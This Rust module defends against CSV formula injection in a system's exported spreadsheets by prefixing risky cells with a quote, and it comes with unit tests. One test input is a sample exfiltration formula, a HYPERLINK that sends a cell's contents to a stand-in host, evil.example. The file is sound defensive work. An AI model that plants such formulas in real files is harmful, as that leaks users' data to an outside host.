//! CSV for people: every CSV the node hands out (the overview, the audit export) is written
//! here, so that a cell cannot become a formula when the file is opened in a spreadsheet.
//!
//! Registry texts (a mission's name, a duty station) and audit fields (a purpose, a typed
//! username) are chosen by users. A spreadsheet runs a cell that starts with `=`, `+`, `-` or
//! `@` as a formula, and tab and carriage return lead to the same on some; such a cell gets a
//! leading `'`, which spreadsheets show as text (OWASP, "CSV Injection").

use std::borrow::Cow;

/// The cell as a spreadsheet shows it as text: with a leading `'` when it would start a
/// formula, unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV document (RFC 4180 quoting by the csv crate) of `rows`, each cell neutralised.
pub fn csv_document<R, C>(rows: R) -> String
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        let cells: Vec<String> = row
            .into_iter()
            .map(|cell| neutralise(cell.as_ref()).into_owned())
            .collect();
        // Writing to memory cannot fail.
        let _ = writer.write_record(&cells);
    }
    writer
        .into_inner()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_start_a_formula_are_shown_as_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "+1+1",
            "-2*3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["EULEX Kosovo", "12", "", "a=b", "Totaal", "'quoted"] {
            assert_eq!(neutralise(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn a_document_neutralises_every_cell_and_quotes_as_rfc_4180() {
        let text = csv_document([["name", "count"], ["=1+1", "3"], ["a,b", "-4"]]);
        assert_eq!(text, "name,count\n'=1+1,3\n\"a,b\",'-4\n");
    }
}
